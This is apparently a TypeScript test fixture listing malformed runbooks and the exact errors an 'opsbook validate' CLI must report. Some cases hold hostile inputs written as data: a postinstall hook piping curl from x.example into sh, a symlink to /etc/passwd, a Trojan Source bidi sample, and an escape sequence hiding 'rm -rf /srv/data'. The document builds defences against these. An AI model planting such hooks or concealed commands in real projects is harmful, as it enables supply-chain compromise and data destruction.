/**
 * The bad-input corpus: one malformed runbook per rule, each with the exact problems
 * (line:col and message) that `opsbook validate` must report. Shared by the schema tests
 * (loadRunbook) and the CLI tests (the real binary, exit 2, no stack trace).
 */
export interface InvalidRunbookCase {
  /** The situation, used as the folder name. */
  name: string;
  /** runbook.yaml as text or bytes; omit to leave the file out. */
  yaml?: string | Uint8Array | undefined;
  /** package.json as text or bytes; default: a valid manifest for runbook `demo`. */
  packageJson?: string | Uint8Array;
  /** Extra files (relative path → content); a value of `{ symlinkTo }` makes a symlink. */
  files?: Record<string, string | { symlinkTo: string }>;
  /** Expected problems as `FILE:line:col: message`, FILE being runbook.yaml or package.json. */
  expected: string[];
  /** Where the opsbook CLI (which knows the built-in actions) says something else. */
  expectedByCli?: string[];
}

export const validPackageJson =
  '{\n  "name": "@runbooks/demo",\n  "version": "1.0.0",\n  "private": true\n}\n';

/** A valid runbook; each case below changes one thing. Line numbers in comments. */
export const validYaml = `apiVersion: opsbook/v1
kind: Runbook
metadata:
  name: demo
  title: Demo
  category: incident
  grade: P3
spec:
  params:
    path: {type: string, default: /var/log/app}
  steps:
    - id: one
      name: One
      run: ls {{ params.path }}
`;

/** validYaml with line `n` (1-based) replaced by `text` (which may hold several lines). */
export function withLine(n: number, text: string): string {
  const lines = validYaml.split('\n');
  lines.splice(n - 1, 1, text);
  return lines.join('\n');
}

/** validYaml with `text` inserted after line `n`. */
export function afterLine(n: number, text: string): string {
  const lines = validYaml.split('\n');
  lines.splice(n, 0, text);
  return lines.join('\n');
}

const deep = `${'a:\n'}${Array.from({ length: 70 }, (_, i) => `${'  '.repeat(i + 1)}a:`).join('\n')} 1\n`;

export const invalidRunbooks: InvalidRunbookCase[] = [
  {
    name: 'unknown-key-typo',
    yaml: withLine(11, '  stpes:'),
    expected: [
      "runbook.yaml:8:1: spec is missing the required key 'steps': add it",
      "runbook.yaml:11:3: unknown key 'stpes' in spec: did you mean 'steps'?",
    ],
  },
  {
    name: 'unknown-key-without-guess',
    yaml: afterLine(7, '  colour: red'),
    expected: [
      "runbook.yaml:8:3: unknown key 'colour' in metadata: allowed keys: name, title, description, category, grade, owners, tags",
    ],
  },
  {
    name: 'grade-wrong-type',
    yaml: withLine(7, '  grade: 3'),
    expected: ['runbook.yaml:7:10: metadata.grade must be one of P1, P2, P3, P4, not the number 3'],
  },
  {
    name: 'owners-not-a-list',
    yaml: afterLine(7, '  owners: ops'),
    expected: ['runbook.yaml:8:11: metadata.owners must be a list, not the string "ops"'],
  },
  {
    name: 'missing-title',
    yaml: withLine(5, ''),
    expected: ["runbook.yaml:3:1: metadata is missing the required key 'title': add it"],
  },
  {
    name: 'wrong-api-version',
    yaml: withLine(1, 'apiVersion: opsbook/v2'),
    expected: ['runbook.yaml:1:13: apiVersion must be \'opsbook/v1\', not the string "opsbook/v2"'],
  },
  {
    name: 'wrong-kind',
    yaml: withLine(2, 'kind: Playbook'),
    expected: ['runbook.yaml:2:7: kind must be \'Runbook\', not the string "Playbook"'],
  },
  {
    name: 'category-typo',
    yaml: withLine(6, '  category: incdent'),
    expected: [
      'runbook.yaml:6:13: metadata.category must be one of routine, incident, change, not the string "incdent": did you mean \'incident\'?',
    ],
  },
  {
    name: 'step-id-uppercase',
    yaml: withLine(12, '    - id: StepOne'),
    expected: [
      'runbook.yaml:12:11: spec.steps[0].id is the string "StepOne": use lowercase letters, digits and "-", starting with a letter (e.g. restart-service)',
    ],
  },
  {
    name: 'bad-timeout',
    yaml: afterLine(14, '      timeout: 10 minutes'),
    expected: [
      'runbook.yaml:15:16: spec.steps[0].timeout is the string "10 minutes": write a duration such as 500ms, 30s, 5m or 2h',
    ],
  },
  {
    name: 'duplicate-step-id',
    yaml: afterLine(14, '    - id: one\n      name: Again\n      run: "true"'),
    expected: [
      "runbook.yaml:15:11: step id 'one' is already used at line 12: step ids must be unique across the runbook",
    ],
  },
  {
    name: 'run-and-script',
    yaml: afterLine(14, '      script: scripts/x.sh'),
    files: { 'scripts/x.sh': 'true\n' },
    expected: [
      "runbook.yaml:15:7: step 'one' has both run and script: keep exactly one of run:, script: or uses:",
    ],
  },
  {
    name: 'step-does-nothing',
    yaml: withLine(14, ''),
    expected: [
      "runbook.yaml:12:11: step 'one' does nothing: give it exactly one of run:, script: or uses:",
    ],
  },
  {
    name: 'with-without-uses',
    yaml: afterLine(14, '      with: {a: 1}'),
    expected: [
      "runbook.yaml:15:7: step 'one' has with: but no uses: — with: passes inputs to a built-in action or a composed runbook only",
    ],
  },
  {
    name: 'unknown-action',
    yaml: withLine(14, '      uses: inspection.dsik'),
    expected: [
      "runbook.yaml:14:13: unknown action 'inspection.dsik': this opsbook has no built-in actions yet; use run: or script:",
    ],
    expectedByCli: [
      "runbook.yaml:14:13: unknown action 'inspection.dsik': did you mean 'inspection.disk'?",
    ],
  },
  {
    name: 'compose-bad-reference',
    yaml: withLine(14, '      uses: runbook:Disk-Cleanup@1'),
    expected: [
      'runbook.yaml:14:13: spec.steps[0].uses is the string "runbook:Disk-Cleanup@1": name a built-in action such as inspection.disk, or a runbook and a version range such as runbook:disk-cleanup@^1.2.0',
    ],
  },
  {
    name: 'compose-in-evidence',
    yaml: `${validYaml}  evidence:\n    - id: more\n      name: More\n      uses: runbook:other@^1.0.0\n`,
    expected: [
      "runbook.yaml:18:13: step 'more' composes runbook other under evidence, which only collects, read-only: compose it under prechecks, steps, postchecks or rollback",
    ],
  },
  {
    name: 'compose-step-option',
    yaml: withLine(14, '      uses: runbook:other@^1.0.0\n      sudo: true\n      timeout: 5m'),
    expected: [
      "runbook.yaml:15:7: step 'one' composes runbook other, whose own steps say whether they need root: remove sudo: here (set it on the steps of other)",
      "runbook.yaml:16:7: step 'one' composes runbook other, whose own steps say how long they may take: remove timeout: here (set it on the steps of other)",
    ],
  },
  {
    name: 'compose-with-host-template',
    yaml: withLine(
      14,
      '      uses: runbook:other@^1.0.0\n      with:\n        path: "{{ params.path }}/{{ host.name }}"',
    ),
    expected: [
      'runbook.yaml:16:15: with.path names {{ host.name }}: the params of a composed runbook have one value for the whole run, the same on every host; use {{ host.name }} in the steps of other instead',
    ],
  },
  {
    name: 'compose-with-mapping',
    yaml: withLine(14, '      uses: runbook:other@^1.0.0\n      with: {path: {nested: 1}}'),
    expected: [
      'runbook.yaml:15:20: with.path is a mapping: the params of a composed runbook are strings, numbers or booleans',
    ],
  },
  {
    name: 'template-undeclared-param',
    yaml: withLine(14, '      run: ls {{ params.pth }}'),
    expected: [
      "runbook.yaml:14:12: template '{{ params.pth }}' names param 'pth', which is not declared under spec.params: did you mean 'path'?",
    ],
  },
  {
    name: 'template-expression',
    yaml: withLine(14, '      run: ls {{ params.path | upper }}'),
    expected: [
      'runbook.yaml:14:12: \'{{ params.path | upper }}\' is not a template opsbook knows: use {{ params.NAME }}, {{ host.name }} or {{ host.vars.NAME }} (templates hold no expressions; write {{ "{{" }} for literal braces)',
    ],
  },
  {
    name: 'template-unclosed',
    yaml: withLine(14, '      run: ls {{ params.path'),
    expected: [
      "runbook.yaml:14:12: '{{' is never closed by '}}': close it, or write {{ \"{{\" }} for literal braces",
    ],
  },
  {
    name: 'template-in-double-quotes',
    yaml: withLine(14, '      run: echo "cleaning {{ params.path }} now"'),
    expected: [
      "runbook.yaml:14:27: {{ params.path }} is inside double quotes: opsbook substitutes it already quoted ('…'), so the quotes become part of the text and a $( ) in the value would run; remove the quotes around it",
    ],
  },
  {
    name: 'template-in-single-quotes',
    yaml: withLine(14, "      run: echo 'cleaning {{ params.path }}'"),
    expected: [
      'runbook.yaml:14:27: {{ params.path }} is inside single quotes: the quotes opsbook puts around the value end yours, so the value is unquoted there; remove the quotes around it',
    ],
  },
  {
    name: 'template-in-heredoc',
    yaml: withLine(
      14,
      '      run: |\n        cat <<EOF\n        path={{ params.path }}\n        EOF',
    ),
    expected: [
      'runbook.yaml:16:14: {{ params.path }} is in a here-document: the value lands there with its quotes, and unless the delimiter is quoted a $ or ` in it expands; pass it as an argument, or through the environment of a script: step',
    ],
  },
  {
    name: 'template-in-arithmetic',
    yaml: withLine(14, '      run: echo $(( {{ params.path }} + 1 ))'),
    expected: [
      'runbook.yaml:14:21: {{ params.path }} is inside $(( )): the value, substituted as a quoted word, is not a number there; assign it first (n={{ … }}) and compute with $((n + 1))',
    ],
  },
  {
    name: 'template-after-backslash',
    yaml: withLine(14, '      run: echo \\{{ params.path }}'),
    expected: [
      "runbook.yaml:14:18: {{ params.path }} follows a backslash, which escapes the quote opsbook puts around the value: the value's own quotes then open and close, and a $( ) in it would run; remove the backslash",
    ],
  },
  {
    name: 'template-after-dollar',
    yaml: withLine(14, '      run: echo ${{ params.path }}'),
    expected: [
      "runbook.yaml:14:18: {{ params.path }} follows a $: with the quote opsbook puts around the value it reads $'…', where bash takes backslash escapes, so a \\' in the value ends the quoting; remove the $ or put a space after it",
    ],
  },
  {
    name: 'template-in-backquotes',
    yaml: withLine(14, '      run: echo `ls {{ params.path }}`'),
    expected: [
      'runbook.yaml:14:21: {{ params.path }} is inside backquotes (`…`), where a ` in the value ends the command substitution and the rest of the value runs; use $( ) instead of backquotes',
    ],
  },
  {
    name: 'template-after-dollar-and-line-continuation',
    yaml: withLine(14, '      run: |\n        echo price $\\\n        {{ params.path }}'),
    expected: [
      "runbook.yaml:16:9: {{ params.path }} follows a $: with the quote opsbook puts around the value it reads $'…', where bash takes backslash escapes, so a \\' in the value ends the quoting; remove the $ or put a space after it",
    ],
  },
  {
    name: 'template-in-bash-test',
    yaml: withLine(14, '      run: l=1; [[ $l -le {{ params.path }} ]] && echo ok'),
    expected: [
      'runbook.yaml:14:27: {{ params.path }} is inside [[ ]], which sh (dash) does not have and where bash evaluates -eq, -lt and the like as arithmetic, where a $( ) in the value runs; use [ ] (test)',
    ],
  },
  {
    name: 'template-after-ansi-c-string',
    yaml: withLine(14, "      run: echo $'Don\\'t restart {{ params.path }} now'"),
    expected: [
      "runbook.yaml:14:34: {{ params.path }} follows a $'…' string, which bash ends at another quote than dash and sh do: for one of them the placeholder is inside quotes, where a value can become a command; write that text with '…' or \"…\"",
    ],
  },
  {
    name: 'template-secret-in-double-quotes',
    yaml: withLine(
      10,
      '    path: {type: string, default: /var/log/app}\n    token: {type: string, secret: true}',
    ).replace(
      'run: ls {{ params.path }}',
      'run: curl -H "X-Token:{{ params.token }}" https://x.example',
    ),
    expected: [
      'runbook.yaml:15:29: {{ params.token }} is inside double quotes: a secret param becomes "$OPSBOOK_PARAM_…" there, whose quotes end yours and leave the variable unquoted (split on spaces, globbed); remove the quotes around it',
    ],
  },
  {
    name: 'default-violates-pattern',
    yaml: withLine(10, '    path: {type: string, default: /tmp, pattern: "^/var/log/"}'),
    expected: [
      "runbook.yaml:10:35: default of param 'path' \"/tmp\" does not match the pattern ^/var/log/: change the default or the param's rules",
    ],
  },
  {
    name: 'default-wrong-type',
    yaml: afterLine(10, '    days: {type: integer, default: "7"}'),
    expected: [
      "runbook.yaml:11:36: default of param 'days' is \"7\", not an integer: change the default or the param's rules",
    ],
  },
  {
    name: 'default-below-minimum',
    yaml: afterLine(10, '    days: {type: integer, default: 0, minimum: 1}'),
    expected: [
      "runbook.yaml:11:36: default of param 'days' is 0, below the minimum 1: change the default or the param's rules",
    ],
  },
  {
    name: 'secret-with-default',
    yaml: afterLine(10, '    token: {type: string, secret: true, default: hunter2}'),
    expected: [
      "runbook.yaml:11:50: secret param 'token' must not have a default: secrets come from the environment or a prompt, never from the runbook",
    ],
  },
  {
    name: 'param-name-uppercase',
    yaml: afterLine(10, '    Days: {type: integer}'),
    expected: [
      'runbook.yaml:11:5: \'Days\' is not a valid name in spec.params: use lowercase letters, digits and "_", starting with a letter (e.g. max_age)',
    ],
  },
  {
    name: 'param-bad-regex',
    yaml: withLine(10, '    path: {type: string, pattern: "^(unclosed"}'),
    expected: [
      "runbook.yaml:10:35: param 'path' pattern is not a valid regular expression (Invalid regular expression: /^(unclosed/u: Unterminated group): fix the pattern",
    ],
  },
  {
    name: 'param-unknown-type',
    yaml: withLine(10, '    path: {type: path}'),
    expected: [
      'runbook.yaml:10:18: spec.params.path.type must be one of string, integer, number, boolean, not the string "path"',
    ],
  },
  {
    name: 'script-absolute',
    yaml: withLine(14, '      script: /usr/local/bin/cleanup.sh'),
    expected: [
      "runbook.yaml:14:15: script '/usr/local/bin/cleanup.sh' is an absolute path: give a path relative to the runbook folder, e.g. scripts/check.sh",
    ],
  },
  {
    name: 'script-escapes-folder',
    yaml: withLine(14, '      script: ../other/steal.sh'),
    expected: [
      "runbook.yaml:14:15: script '../other/steal.sh' leaves the runbook folder ('..'): keep scripts inside the runbook folder",
    ],
  },
  {
    // The bundle digest leaves README.md and CHANGELOG.md at the top out: run as a script, an
    // edit to it would change what runs without changing the digest the senior signed. plan
    // refused it with no line; validate passed it.
    name: 'script-undigested-readme',
    yaml: withLine(14, '      script: README.md'),
    files: { 'README.md': '#!/bin/sh\necho documented\n' },
    expected: [
      "runbook.yaml:14:15: script 'README.md' is a file the bundle digest leaves out (README.md and CHANGELOG.md at the top of the runbook folder are documentation): an edit to it would need no new approval, so it cannot be a script; move the script into the folder's scripts/ (e.g. scripts/check.sh)",
    ],
  },
  {
    // plan looks a script up by the path the digest lists: another spelling of it validated, then
    // plan refused it ("is not in the bundle") with no line.
    name: 'script-path-not-canonical',
    yaml: withLine(14, '      script: scripts/./check.sh'),
    files: { 'scripts/check.sh': '#!/bin/sh\necho ok\n' },
    expected: [
      "runbook.yaml:14:15: script 'scripts/./check.sh' names the file with a '.' or an empty folder: write it as 'scripts/check.sh'",
    ],
  },
  {
    // pnpm install runs a workspace package's install scripts: on every checkout that installs
    // the repository (engineers', runners'), with no approval, and no plan shows them.
    name: 'package-scripts',
    packageJson:
      '{\n  "name": "@runbooks/demo",\n  "version": "1.0.0",\n  "private": true,\n  "scripts": {"postinstall": "curl -fsS https://x.example/i | sh"}\n}\n',
    expected: [
      'package.json:5:14: a runbook package.json may not have "scripts": pnpm install runs a workspace package\'s install scripts (postinstall…) on every checkout that installs the repository, runners included, with no approval; remove them and put the commands in runbook.yaml\'s steps',
    ],
  },
  {
    name: 'script-symlink',
    yaml: withLine(14, '      script: scripts/link.sh'),
    files: { 'scripts/link.sh': { symlinkTo: '/etc/passwd' } },
    expected: [
      "runbook.yaml:14:15: script 'scripts/link.sh' is, or is inside, a symlink (scripts/link.sh): replace it with the real file",
      'scripts/link.sh: runbook folder contains a symlink (scripts/link.sh): a runbook must hold real files only; replace it with the file',
    ],
  },
  {
    // The folder walk lists no file under a link to a folder: the script is lstat'ed segment by
    // segment, and the link on the way is named.
    name: 'script-inside-symlinked-folder',
    yaml: withLine(14, '      script: scripts/x.sh'),
    files: { 'real/x.sh': '#!/bin/sh\necho hi\n', scripts: { symlinkTo: 'real' } },
    expected: [
      "runbook.yaml:14:15: script 'scripts/x.sh' is, or is inside, a symlink (scripts): replace it with the real file",
      'scripts: runbook folder contains a symlink (scripts): a runbook must hold real files only; replace it with the file',
    ],
  },
  {
    name: 'script-is-a-folder',
    yaml: withLine(14, '      script: scripts'),
    files: { 'scripts/x.sh': '#!/bin/sh\necho hi\n' },
    expected: ["runbook.yaml:14:15: script 'scripts' is not a regular file"],
  },
  {
    // The digest refuses it (show, plan): validate must too, or CI passes what cannot be planned.
    name: 'symlink-in-folder',
    files: { 'notes.txt': { symlinkTo: '/etc/hostname' } },
    expected: [
      'notes.txt: runbook folder contains a symlink (notes.txt): a runbook must hold real files only; replace it with the file',
    ],
  },
  {
    name: 'symlink-hidden-in-subfolder',
    files: { 'docs/.keep': 'x', 'docs/.old': { symlinkTo: '../package.json' } },
    expected: [
      'docs/.old: runbook folder contains a symlink (docs/.old): a runbook must hold real files only; replace it with the file',
    ],
  },
  {
    name: 'script-nul-byte',
    yaml: withLine(14, '      script: scripts/x.sh'),
    files: { 'scripts/x.sh': '#!/bin/sh\necho hi\u0000\n' },
    expected: [
      'scripts/x.sh:2:8: NUL byte: a text file holds none, so this file is binary or UTF-16; check the path, or save it as UTF-8',
    ],
  },
  {
    name: 'script-bidi-override',
    yaml: withLine(14, '      script: scripts/x.sh'),
    // Trojan Source: an editor shows the comment's end before "admin", the shell does not.
    files: {
      'scripts/x.sh':
        '#!/bin/sh\n[ "$USER" = "user\u202e \u2066# admin\u2069 \u2066" ] && echo yes\n',
    },
    expected: [
      'scripts/x.sh:2:18: control character U+202E (RLO) in the file: it makes a terminal or editor show the text around it in another order than it runs, so a reviewer would not see what runs; delete it',
    ],
  },
  {
    name: 'script-escape-sequence',
    yaml: withLine(14, '      script: scripts/x.sh'),
    // ESC [ 2 K ESC [ 1 A: `cat` shows the line above erased.
    files: { 'scripts/x.sh': '#!/bin/sh\nrm -rf /srv/data # \u001b[1A\u001b[2K\necho ok\n' },
    expected: [
      'scripts/x.sh:2:20: control character U+001B (ESC) in the file: a terminal acts on it instead of showing it, so a reviewer would not see what runs; delete it',
    ],
  },
  {
    name: 'script-missing',
    yaml: withLine(14, '      script: scripts/gone.sh'),
    expected: [
      "runbook.yaml:14:15: script 'scripts/gone.sh' does not exist in the runbook folder: add the file or fix the path",
    ],
  },
  {
    name: 'name-differs-from-package',
    yaml: withLine(4, '  name: other'),
    expected: [
      "runbook.yaml:4:9: metadata.name is 'other' but the package is '@runbooks/demo': they must be equal (rename one)",
    ],
  },
  {
    name: 'version-not-semver',
    packageJson: '{\n  "name": "@runbooks/demo",\n  "version": "1.0",\n  "private": true\n}\n',
    expected: [
      'package.json:3:14: version must be a semantic version such as 1.2.0, not "1.0": changesets bumps it for you',
    ],
  },
  {
    name: 'package-not-private',
    packageJson: '{\n  "name": "@runbooks/demo",\n  "version": "1.0.0"\n}\n',
    expected: [
      'package.json:1:1: a runbook package must be "private": true so that it is never published to a registry',
    ],
  },
  {
    name: 'package-json-broken',
    packageJson: '{\n  "name": "@runbooks/demo",\n  "version": "1.0.0",\n}\n',
    expected: ['package.json:4:1: invalid JSON: Expected double-quoted property name'],
  },
  {
    name: 'package-json-duplicate-key',
    packageJson:
      '{\n  "name": "@runbooks/demo",\n  "version": "1.0.0",\n  "version": "9.9.9",\n  "private": true\n}\n',
    expected: [
      'package.json:4:3: duplicate key: each key may appear once in a mapping; remove or rename one of them',
    ],
  },
  {
    name: 'yaml-anchor-and-alias',
    yaml: withLine(10, '    path: &p {type: string}\n    other: *p'),
    expected: [
      "runbook.yaml:10:14: YAML anchor '&p' is not allowed: remove it and write every value out in full",
      "runbook.yaml:11:12: YAML alias '*p' is not allowed: write the value out in full, so that what a reviewer reads is what runs",
    ],
  },
  {
    name: 'yaml-merge-key',
    yaml: withLine(10, '    path:\n      <<: {type: string}'),
    expected: [
      "runbook.yaml:11:7: YAML merge key '<<' is not allowed: copy the keys into this mapping explicitly",
    ],
  },
  {
    name: 'yaml-custom-tag',
    yaml: withLine(14, '      run: !include cleanup.sh'),
    expected: [
      "runbook.yaml:14:21: YAML tag '!include' is not allowed: remove it and write a plain value (quote it to make a string)",
    ],
  },
  {
    name: 'yaml-duplicate-key',
    yaml: afterLine(5, '  title: Demo again'),
    expected: [
      'runbook.yaml:6:3: duplicate key: each key may appear once in a mapping; remove or rename one of them',
    ],
  },
  {
    name: 'yaml-unclosed-bracket',
    yaml: withLine(10, '    path: {type: string, default: /var/log/app'),
    expected: [
      "runbook.yaml:10:11: this '{' is never closed: add the missing '}' (or indent the continuation)",
    ],
  },
  {
    name: 'yaml-unclosed-bracket-after-a-closed-one',
    yaml: withLine(10, '    path: {type: string, enum: [a, b], default: "[x" # [ y'),
    expected: [
      "runbook.yaml:10:11: this '{' is never closed: add the missing '}' (or indent the continuation)",
    ],
  },
  {
    // An apostrophe read as a quote hides the ']': the '[' found is not the kind left open.
    name: 'yaml-unclosed-bracket-of-another-kind-than-found',
    yaml: withLine(10, "    path: {type: string, description: [it's]"),
    expected: [
      "runbook.yaml:11:3: a '{' opened earlier is never closed: add the missing '}' (or indent the continuation)",
    ],
  },
  {
    // The parser notices it at the end of the file; the problem is shown where the quote opens.
    name: 'yaml-unclosed-double-quote',
    yaml: withLine(5, '  title: "Demo of the \\"quotes'),
    expected: [
      'runbook.yaml:5:10: this " is never closed (the value runs to the end of the file): add the closing " where the value ends',
    ],
  },
  {
    name: 'yaml-unclosed-single-quote',
    yaml: withLine(5, "  title: 'Don''t touch"),
    expected: [
      "runbook.yaml:5:10: this ' is never closed (the value runs to the end of the file): add the closing ' where the value ends",
    ],
  },
  {
    // A version or a file mode written unquoted: YAML makes 1.10 the number 1.1.
    name: 'string-default-read-as-number',
    yaml: withLine(10, '    path: {type: string, default: 1.10}'),
    expected: [
      'runbook.yaml:10:35: default of param \'path\' is 1.1, not a string: YAML reads it unquoted as a number: quote it as written (default: "…")',
    ],
  },
  {
    name: 'yaml-step-key-one-space-short',
    yaml: withLine(13, '     name: One'),
    expected: [
      "runbook.yaml:13:1: bad indentation: this line is further in than the list item above, but has no '-' of its own: indent it like its siblings, or start a new item with '- '",
    ],
  },
  {
    // The block's first key one space too far in: the parser complains of each sibling after it.
    name: 'yaml-block-first-key-further-in',
    yaml: withLine(9, '   params:'),
    expected: [
      "runbook.yaml:11:1: bad indentation: this line is indented 2 space(s), but the first line of its block, line 9 ('params:'), is indented 3: indent them alike, with spaces only",
    ],
  },
  {
    // Three siblings out of step with the first: one problem, one fix.
    name: 'yaml-block-first-key-further-in-many-siblings',
    yaml: withLine(4, '   name: demo'),
    expected: [
      "runbook.yaml:5:1: bad indentation: this line is indented 2 space(s), but the first line of its block, line 4 ('name: demo'), is indented 3: indent them alike, with spaces only",
    ],
  },
  {
    name: 'yaml-tab-indent',
    yaml: withLine(13, '\t  name: One'),
    expected: ['runbook.yaml:13:1: a tab is used for indentation: YAML indents with spaces only'],
  },
  {
    // The parser, lost after the tab, also complains about the lines below it: one problem, at the tab.
    name: 'yaml-tab-indent-in-mapping',
    yaml: withLine(5, '\ttitle: Demo'),
    expected: ['runbook.yaml:5:1: a tab is used for indentation: YAML indents with spaces only'],
  },
  {
    name: 'yaml-tab-after-spaces-in-mapping',
    yaml: withLine(5, '  \ttitle: Demo'),
    expected: ['runbook.yaml:5:3: a tab is used for indentation: YAML indents with spaces only'],
  },
  {
    name: 'yaml-two-documents',
    yaml: `${validYaml}---\nkind: Runbook\n`,
    expected: [
      "runbook.yaml:15:1: the file holds more than one YAML document ('---'); keep one document per file",
    ],
  },
  {
    name: 'document-is-a-list',
    yaml: '- apiVersion: opsbook/v1\n',
    expected: [
      'runbook.yaml:1:1: the document must be a mapping, not a list: it takes the keys apiVersion, kind, metadata, spec',
    ],
  },
  {
    name: 'empty-file',
    yaml: '',
    expected: ['runbook.yaml: file is empty: it must hold a YAML mapping'],
  },
  {
    name: 'only-comments',
    yaml: '# nothing here\n',
    expected: ['runbook.yaml: file is empty: it must hold a YAML mapping'],
  },
  {
    name: 'binary-junk',
    yaml: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x00, 0x00, 0xff, 0xfe]),
    expected: [
      'runbook.yaml:1:7: NUL byte: a text file holds none, so this file is binary or UTF-16; check the path, or save it as UTF-8',
    ],
  },
  {
    name: 'not-utf8',
    yaml: new Uint8Array([...Buffer.from('apiVersion: opsbook/v1\nkind: R'), 0xe9, 0x0a]),
    expected: [
      'runbook.yaml:2:8: byte 0xE9 is not valid UTF-8 (Latin-1 or Windows-1252 text?): save the file as UTF-8',
    ],
  },
  {
    name: 'utf16-with-bom',
    yaml: new Uint8Array([0xff, 0xfe, ...Buffer.from(validYaml, 'utf16le')]),
    expected: [
      'runbook.yaml:1:1: the file is UTF-16 text (it starts with a UTF-16 byte order mark): save it as UTF-8',
    ],
  },
  {
    name: 'utf16-without-bom',
    yaml: new Uint8Array(Buffer.from(validYaml, 'utf16le')),
    expected: [
      'runbook.yaml:1:2: NUL byte: a text file holds none, so this file is binary or UTF-16; check the path, or save it as UTF-8',
    ],
  },
  {
    name: 'nul-in-step-name',
    yaml: withLine(13, '      name: O\u0000ne'),
    expected: [
      'runbook.yaml:13:14: NUL byte: a text file holds none, so this file is binary or UTF-16; check the path, or save it as UTF-8',
    ],
  },
  {
    name: 'step-name-escape-sequence',
    yaml: withLine(13, '      name: "One\\e[2J"'),
    expected: [
      "runbook.yaml:13:17: spec.steps[0].name holds control character U+001B (ESC), written as '\\e': a terminal acts on it instead of showing it, so a reviewer would not see what runs; remove it",
    ],
  },
  {
    name: 'step-name-raw-escape',
    yaml: withLine(13, '      name: One\u001b[2J'),
    expected: [
      'runbook.yaml:13:16: control character U+001B (ESC) in the file: a terminal acts on it instead of showing it, so a reviewer would not see what runs; delete it',
    ],
  },
  {
    name: 'title-c1-control',
    yaml: withLine(5, '  title: Demo\u009b2J'),
    expected: [
      'runbook.yaml:5:14: control character U+009B (CSI) in the file: a terminal acts on it instead of showing it, so a reviewer would not see what runs; delete it',
    ],
  },
  {
    name: 'owner-delete-character',
    yaml: afterLine(7, '  owners: [ops\u007f]'),
    expected: [
      'runbook.yaml:8:15: control character U+007F (DEL) in the file: a terminal acts on it instead of showing it, so a reviewer would not see what runs; delete it',
    ],
  },
  {
    name: 'lone-carriage-return',
    yaml: withLine(13, '      name: One\rTwo'),
    expected: [
      'runbook.yaml:13:16: a carriage return (U+000D) that does not end a line: a terminal goes back to the line start and draws over the text before it; delete it, or end lines with LF or CRLF',
    ],
  },
  {
    name: 'param-key-control-escape',
    yaml: withLine(10, '    "pa\\u0007th": {type: string, default: /var/log/app}'),
    expected: [
      "runbook.yaml:10:8: a key in spec.params holds control character U+0007 (BEL), written as '\\u0007': a terminal acts on it instead of showing it, so a reviewer would not see what runs; remove it",
    ],
  },
  {
    name: 'step-name-line-break-escape',
    yaml: withLine(13, '      name: "One\\nTwo"'),
    expected: [
      "runbook.yaml:13:17: spec.steps[0].name holds a line break, written as '\\n': write it on one line (only run:, description:, args:, with: and param values may span lines)",
    ],
  },
  {
    name: 'step-name-block-scalar',
    yaml: withLine(13, '      name: |\n        One\n        Two'),
    expected: [
      'runbook.yaml:13:13: spec.steps[0].name holds a line break: write it on one line (only run:, description:, args:, with: and param values may span lines)',
    ],
  },
  {
    name: 'title-tab',
    yaml: withLine(5, '  title: De\tmo'),
    expected: [
      'runbook.yaml:5:12: metadata.title holds a tab: use spaces (tabs belong only where line breaks may be)',
    ],
  },
  {
    name: 'package-json-control-escape',
    packageJson:
      '{\n  "name": "@runbooks/demo",\n  "version": "1.0.0",\n  "private": true,\n  "description": "Demo\\u001b[2J"\n}\n',
    expected: [
      "package.json:5:23: description holds control character U+001B (ESC), written as '\\u001b': a terminal acts on it instead of showing it, so a reviewer would not see what runs; remove it",
    ],
  },
  {
    name: 'package-json-raw-control',
    packageJson:
      '{\n  "name": "@runbooks/demo",\n  "version": "1.0.0",\n  "private": true,\n  "description": "Demo\u0007"\n}\n',
    expected: [
      'package.json:5:23: control character U+0007 (BEL) in the file: a terminal acts on it instead of showing it, so a reviewer would not see what runs; delete it',
    ],
  },
  {
    name: 'package-json-name-line-break',
    packageJson: '{\n  "name": "@runbooks/demo\\n",\n  "version": "1.0.0",\n  "private": true\n}\n',
    expected: [
      "package.json:2:26: name holds a line break, written as '\\n': write it on one line",
    ],
  },
  {
    name: 'package-json-nested-10000',
    packageJson: `{\n  "name": "@runbooks/demo",\n  "version": "1.0.0",\n  "private": true,\n  "x": ${'['.repeat(10_000)}${']'.repeat(10_000)}\n}\n`,
    expected: ['package.json:5:71: nesting is deeper than 64 levels: flatten the structure'],
  },
  {
    name: 'flow-nesting-100000',
    yaml: afterLine(14, `      with: ${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    expected: ['runbook.yaml:15:73: nesting is deeper than 64 levels: flatten the structure'],
  },
  {
    name: 'huge-file',
    yaml: `${validYaml}#${'x'.repeat(1024 * 1024)}\n`,
    expected: [
      'runbook.yaml: file is 1048820 bytes; the limit is 1048576 bytes (1 MiB): split it or remove generated content',
    ],
  },
  {
    name: 'deep-nesting',
    yaml: deep,
    expected: ['runbook.yaml:65:129: nesting is deeper than 64 levels: flatten the structure'],
  },
  {
    name: 'no-steps',
    yaml: withLine(11, '  steps: []').split('\n').slice(0, 11).join('\n'),
    expected: ['runbook.yaml:11:10: spec.steps must be a list of at least 1 item'],
  },
  {
    name: 'expect-a-bare-exit-code',
    yaml: afterLine(14, '      expect: 0'),
    expected: [
      'runbook.yaml:15:15: spec.steps[0].expect must be a mapping, not the number 0: it takes the keys exitCode, stdout, stderr; did you mean expect: {exitCode: 0}?',
    ],
  },
  {
    name: 'expect-a-bare-text',
    yaml: afterLine(14, '      expect: ok'),
    expected: [
      'runbook.yaml:15:15: spec.steps[0].expect must be a mapping, not the string "ok": it takes the keys exitCode, stdout, stderr',
    ],
  },
  {
    name: 'exit-code-wrong-type',
    yaml: afterLine(14, '      expect: {exitCode: zero}'),
    expected: [
      'runbook.yaml:15:26: spec.steps[0].expect.exitCode has the string "zero", which fits none of the allowed forms: an integer, or a list of integers',
    ],
  },
  {
    name: 'missing-runbook-yaml',
    yaml: undefined,
    expected: [
      'runbook.yaml: file is missing: every runbook folder needs runbook.yaml (the runbook definition)',
    ],
  },
];

/** Write a case as a runbook folder `<root>/demo-<name>/`; returns the folder. */
export async function writeCase(root: string, c: InvalidRunbookCase): Promise<string> {
  const { mkdir, symlink, writeFile } = await import('node:fs/promises');
  const path = await import('node:path');
  const dir = path.join(root, c.name);
  await mkdir(dir, { recursive: true });
  await writeFile(path.join(dir, 'package.json'), c.packageJson ?? validPackageJson);
  const yaml = 'yaml' in c ? c.yaml : validYaml;
  if (yaml !== undefined) await writeFile(path.join(dir, 'runbook.yaml'), yaml);
  for (const [rel, content] of Object.entries(c.files ?? {})) {
